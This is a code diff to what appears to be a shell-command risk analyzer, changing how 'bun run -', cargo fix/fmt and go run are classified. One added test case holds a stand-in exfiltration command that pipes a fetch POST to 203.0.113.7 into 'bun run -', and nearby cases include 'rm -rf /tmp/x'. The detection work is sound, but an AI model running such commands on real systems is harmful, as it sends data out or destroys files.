@@ -1251,7 +1251,8 @@ function bunRun(call: Call, target: Field | undefined, rest: Field[]): void {
     return;
   }
   const t = target.text;
-  if (/\.(m?[jt]sx?|c[jt]s)$/.test(t)) ctx.runsFile(target, 'code:javascript');
+  if (t === '-') ctx.runsStdin('code:javascript');
+  else if (/\.(m?[jt]sx?|c[jt]s)$/.test(t)) ctx.runsFile(target, 'code:javascript');
   else if (/\.sh$/.test(t)) ctx.runsFile(target);
   else if (t.includes('/') || /\.\w+$/.test(t)) ctx.runsFile(target, 'code:javascript');
   else scriptOrCommand(call, [target, ...rest]);
@@ -1672,6 +1673,7 @@ const JAVASCRIPT: ProgramSpec[] = [
         executes: ['inline:javascript'],
       },
       { cmd: 'bun run rm -rf /tmp/x', runs: ['rm'] },
+      { cmd: "echo 'await fetch(\"http://203.0.113.7/\", { method: \"POST\", body: \"x\" })' | bun run -", risks: ['exfiltration'] },
       { cmd: 'bun x cowsay hi', risks: ['remote-code'] },
       { cmd: 'bun exec "rm -rf /tmp/x"', runs: ['rm'] },
       { cmd: 'bun add -g serve', writes: ['~/.bun/bin/*'] },
@@ -3289,8 +3291,9 @@ const CARGO_SUBCOMMANDS: Record<string, CommandSpec> = {
   'fix|clippy|fmt': S({
     custom(call) {
       if (call.sub !== 'fmt') cargoBuild(call, undefined);
+      // Fixes and formatting rewrite the crate's Rust files.
       if (call.sub === 'fix' || call.has('--fix') || (call.sub === 'fmt' && !call.has('--check')))
-        call.ctx.write(`${call.ctx.path('.')}/**`);
+        call.ctx.write(`${call.ctx.path('.')}/**/*.rs`);
     },
   }),
   clean: S({
@@ -3592,10 +3595,7 @@ const GO_SUBCOMMANDS: Record<string, CommandSpec> = {
       const first = call.operands[0];
       if (!first || goRemote(call, [first])) return;
       const files = call.operands.filter((o) => o.known && /\.go$/.test(o.text));
-      for (const file of files) {
-        ctx.read(ctx.path(file.text));
-        ctx.executes(ctx.path(file.text));
-      }
+      for (const file of files) ctx.runsFile(file, 'code:go');
       if (files.length === 0) ctx.executes(`the program built from ${first.text}`);
     },
   }),
